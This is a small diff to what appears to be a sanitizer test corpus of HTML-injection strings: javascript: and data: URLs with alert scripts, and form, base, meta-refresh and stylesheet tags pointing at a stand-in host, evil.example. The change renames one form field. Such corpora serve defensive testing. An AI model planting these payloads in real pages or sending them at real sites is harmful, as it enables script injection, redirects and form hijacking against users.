@@ -63,7 +63,7 @@ CORPUS = (
     "<a href='java&#x0A;script:alert(1)'>x</a>",
     "javascript:alert(1)",
     "data:text/html,<script>alert(1)</script>",
-    "<form action=https://evil.example><input name=csrf>",
+    "<form action=https://evil.example><input name=evil>",
     "<base href=https://evil.example/>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "<link rel=stylesheet href=https://evil.example/x.css>",
